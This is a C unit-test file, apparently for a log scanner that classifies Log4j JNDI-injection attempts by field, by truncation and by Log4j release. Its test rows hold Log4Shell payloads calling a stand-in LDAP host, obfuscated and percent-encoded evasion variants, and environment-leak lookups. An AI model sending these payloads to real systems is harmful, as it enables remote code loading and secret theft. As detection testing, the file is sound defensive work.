/* Several fields of one record, lines that the logger cut, and single releases. */
#include "judge_row.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <cmocka.h>

#define RUN(rows) judge_rows(rows, sizeof rows / sizeof *rows)
#define P "${jndi:ldap://h.example/a}"
#define H "ldap://h.example:389/a"

static void fields(void **state)
{
    static const struct judge_row rows[] = {
        ROW(NULL, "exploit", .fields = {"GET", P}, .field = "1", .indicators = H),
        ROW(NULL, "exploit", .fields = {P, "GET"}, .field = "0", .indicators = H),
        ROW(NULL, "exploit", .fields = {"${", P}, .field = "1", .indicators = H),
        ROW(NULL, "exploit", .fields = {"${ ${lower:", "${x", P}, .field = "2", .indicators = H),
        ROW(NULL, "exploit", .fields = {"${jndi:x}", "${env:A}", P}, .traits = "leak", .field = "2"),
        ROW(NULL, "exploit", .fields = {"${java:nosuch}", P}, .field = "1", .fires = FIRES_ALL),
        ROW(NULL, "exploit", .fields = {"%24%7Bx", "%24%7Bjndi:ldap://h.example/a%7D"}, .field = "1", .chain = "percent"),
        ROW(NULL, "exploit", .fields = {"${jndi:LDAP://a.example/1}", "${jndi:ldap://b.example/2}"}, .field = "1",
            .indicators = "ldap://b.example:389/2 !LDAP://a.example:0/1"),
        ROW(NULL, "reach", .fields = {"${env:A}", "${jndi:x}"}, .traits = "leak", .field = "1"),
        ROW(NULL, "attempt", .fields = {"${env:A}", "${ jndi:x}"}, .traits = "leak", .field = "1"),
        ROW(NULL, "none", .fields = {"GET /", "curl/8", "-", ""}),
        ROW(NULL, "none", .fields = {"${user}", "${name}"}),
        /* one parameter does not reach the next */
        ROW(NULL, "exploit", .fields = {"/?a=${&b=" P}, .field = "0"),
        ROW(NULL, "exploit", .fields = {"/?a=%24%7B&b=%24%7Bjndi:ldap://h.example/a%7D"}, .field = "0", .chain = "percent"),
        ROW(NULL, "exploit", .fields = {"a=${${&b=1&c=" P "&d=2"}, .field = "0"),
    };
    (void)state;
    RUN(rows);
}

static void composed(void **state)
{
    static const struct judge_row rows[] = {
        ROW(NULL, "exploit", .fields = {"${jndi:ldap://h.example/a", "}"}, .traits = "composed", .field = "composed",
            .indicators = "ldap://h.example:389/a ", .fires = FIRES_ALL),
        ROW(NULL, "exploit", .fields = {"/${jndi:ldap://h.example/a", "GET", "curl}"}, .traits = "composed", .field = "composed"),
        ROW(NULL, "exploit", .fields = {"$" P, "${"}, .traits = "composed", .field = "composed", .fires = "2.6-2.14.1 message"),
        ROW(NULL, "exploit", .fields = {"%24%7Bjndi:ldap://h.example/a", "%7D"}, .traits = "composed", .chain = "percent",
            .field = "composed"),
        ROW(NULL, "attempt", .fields = {"${jndi:ldap://h.example/a", "x"}, .field = "0"),
        ROW(NULL, "attempt", .fields = {"}", "${jndi:ldap://h.example/a"}, .field = "1"),
        ROW(NULL, "exploit", .fields = {"${env:A}", "$" P}, .traits = "leak composed", .field = "composed"), /* a second pass */
        ROW(NULL, "reach", .fields = {"${jndi:ldap://", "h.example/a}"}, .traits = "composed", .field = "composed",
            .fires = FIRES_ALL), /* a host with a blank is none */
        ROW(NULL, "none", .fields = {"$", "{jndi:ldap://h.example/a}"}), /* parted by a blank */
        ROW(NULL, "none", .fields = {"${user", "name}"}),
        /* the sure verdict of one field needs no company */
        ROW(NULL, "exploit", .fields = {P, "}"}, .field = "0"),
    };
    (void)state;
    RUN(rows);
}

static void truncated(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${jndi:ldap://h.example/a", "attempt", .truncated = true, .certainty = "unknown", .traits = "truncated", .indicators = "ldap://h.example:389/a"),
        ROW("${jndi:LDAP://h.example/a}", "reach", .truncated = true, .certainty = "unknown", .traits = "truncated"),
        ROW(P, "exploit", .truncated = true, .traits = "truncated"),
        ROW("${user.name", "none", .truncated = true, .traits = "truncated"),
        ROW("GET /", "none", .truncated = true),
    };
    (void)state;
    RUN(rows);
}

static void single_releases(void **state)
{
    static const struct judge_row rows[] = {
        ROW(P, "exploit", .only = "2.14.1", .fires = FIRES("2.13.2-2.14.1")),
        ROW(P, "exploit", .only = "2.0-beta9", .fires = FIRES("2.0-beta9-2.0-rc1")),
        ROW(P, "attempt", .only = "2.15.0"),
        ROW(P, "attempt", .only = "2.16.0"),
        ROW(P, "attempt", .only = "2.17.1"),
        ROW(P, "attempt", .only = "2.3.1"),
        ROW(P, "attempt", .only = "2.12.2"),
        ROW(P, "attempt", .only = "2.12.4"),
        ROW("${jndi:ldap://127.0.0.1/a}", "exploit", .only = "2.15.0", .fires = "2.15.0 message +lookups; 2.15.0 context +layout"),
        ROW("${jndi:ldap://127.0.0.1/a}", "exploit", .only = "2.16.0", .fires = "2.16.0 context +layout+jndi"),
        ROW("${jndi:ldap://127.0.0.1/a}", "attempt", .only = "2.17.0"),
        ROW("${${lower:j}ndi:ldap://h.example/a}", "exploit", .only = "2.13.0", .fires = FIRES("2.13.0")),
        ROW("${${lower:j}ndi:ldap://h.example/a}", "attempt", .only = "2.12.1"),
        ROW("${${::-j}ndi:ldap://h.example/a}", "exploit", .only = "2.12.1", .fires = FIRES("2.8-2.12.1")),
        ROW("${${::-j}ndi:ldap://h.example/a}", "attempt", .only = "2.7"),
        ROW("${JNDI:ldap://h.example/a}", "attempt", .only = "2.4.1"),
        ROW("${jndi:ldap://h.example/${x}", "exploit", .only = "2.4.1", .fires = FIRES("2.1-2.5")),
        ROW("${jndi:ldap://h.example/${x}", "attempt", .only = "2.9.1"),
        ROW("${jndi:\\-ldap://h.example/a:-z}", "reach", .only = "2.13.0"),
        ROW("${jndi:\\-ldap://h.example/a:-z}", "exploit", .only = "2.13.1"),
        ROW("${event:Message}" P, "exploit", .only = "2.12.1"),
        ROW("${java:nosuch}" P, "attempt", .only = "2.14.1"),
        ROW("${java:nosuch}" P, "exploit", .only = "2.0"),
        ROW("${env:A}", "leak", .only = "2.14.1"),
        ROW("${user.name}", "none", .only = "2.14.1"),
    };
    (void)state;
    RUN(rows);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(fields), cmocka_unit_test(composed), cmocka_unit_test(truncated), cmocka_unit_test(single_releases),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
